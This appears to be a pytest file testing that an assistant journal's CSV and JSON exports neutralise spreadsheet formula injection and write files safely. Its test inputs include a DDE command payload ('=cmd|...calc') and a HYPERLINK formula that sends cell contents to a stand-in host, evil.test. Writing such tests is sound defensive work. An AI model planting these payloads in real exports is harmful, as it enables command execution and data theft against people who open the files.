"""An export opens in a spreadsheet as words, whatever people typed."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.journal.export import COLUMNS, cell, csv_lines, json_lines, write_lines
from assistant.journal.feedback import record_feedback
from assistant.journal.model import JournalError, Who
from assistant.journal.store import Journal
from tests.assistant.journal.journal_samples import put

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1+1",
    "＠x",
    "harmless\n=1+1",
    "harmless\r\n=1+1",
    "harmless\r=1+1",
    '"=1+1',
    "a;=1+1",
    "a\t=1+1",
    'a",=1+1,"',
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
)
_BEGINS = re.compile(r"[\s\u00a0\ufeff]*[=+\-@＝＋－＠\t\r]")


def rows(journal: Journal, delimiter: str = ",") -> list[dict[str, str]]:
    text = "".join(csv_lines(journal.every()))
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_is_a_formula(home: Path, payload: str) -> None:
    with Journal.open(home) as journal:
        made = put(journal, payload, Who(payload, "reader", (payload,)))
        assert made.answer is not None
        record_feedback(journal, made.answer, "down", payload)
        found = rows(journal)
        assert len(found) == 2
        for row in found:
            for value in row.values():
                for line in re.split(r"[\r\n]", value):
                    assert not _BEGINS.match(line), value
        assert (
            re.sub(r"\s", "", payload.lstrip("\ufeff"))
            in re.sub(r"[\s']|^\ufeff", "", found[0]["question"])
            or "'" in payload
        )
        # A country whose spreadsheets separate by ";" or a tab finds every cell quoted.
        for line in "".join(csv_lines(journal.every())).splitlines():
            assert not re.search(r"(?:^|[;\t,])[=+@]", re.sub(r'"(?:[^"]|"")*"', '""', line))


@given(st.text(max_size=30))
def test_any_words_are_one_cell_that_is_no_formula(words: str) -> None:
    made = cell(words)
    assert all(not _BEGINS.match(line) for line in re.split(r"[\r\n]", made))
    if not re.search(r"[=+\-@＝＋－＠\t\r\x00]", words):
        assert made == words


def test_what_was_asked_and_answered_is_in_its_column(home: Path) -> None:
    with Journal.open(home) as journal:
        put(journal, 'May we, "really"?', Who("me", "reader", ("b", "a"), "api"))
        (row,) = rows(journal)
    assert list(row) == list(COLUMNS)
    assert row["question"] == 'May we, "really"?'
    assert (row["asker"], row["groups"], row["channel"]) == ("me", "a; b", "api")
    assert (row["verdict"], row["confidence"]) == ("prohibited", "0.9")
    assert row["citations"] == "shelf/Acme/Usage Policy.md v1 10-35"


def test_lines_of_json_have_all_that_an_entry_says(home: Path) -> None:
    with Journal.open(home) as journal:
        made = put(journal, "=1+1", receipt=True)
        (line,) = json_lines(journal.every(receipts=True))
    read = json.loads(line)
    assert (read["entry"], read["hash"]) == (1, made.hash)
    assert read["words"]["question"] == "=1+1"
    assert set(read["commitments"]) == {"question", "resolved", "topic", "receipt"}
    assert "receipt" not in read["words"]


def test_a_file_is_written_whole_or_not_at_all(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_lines(["ä\r\n"], out)
    assert out.read_bytes() == "\ufeffä\r\n".encode()
    assert out.stat().st_mode & 0o077 == 0

    def broken():
        yield "half"
        raise OSError("disk full")

    with pytest.raises(JournalError, match=r"out\.csv .*disk full"):
        write_lines(broken(), out)
    assert out.read_bytes() == "\ufeffä\r\n".encode()
    assert list(tmp_path.glob(".out*")) == []
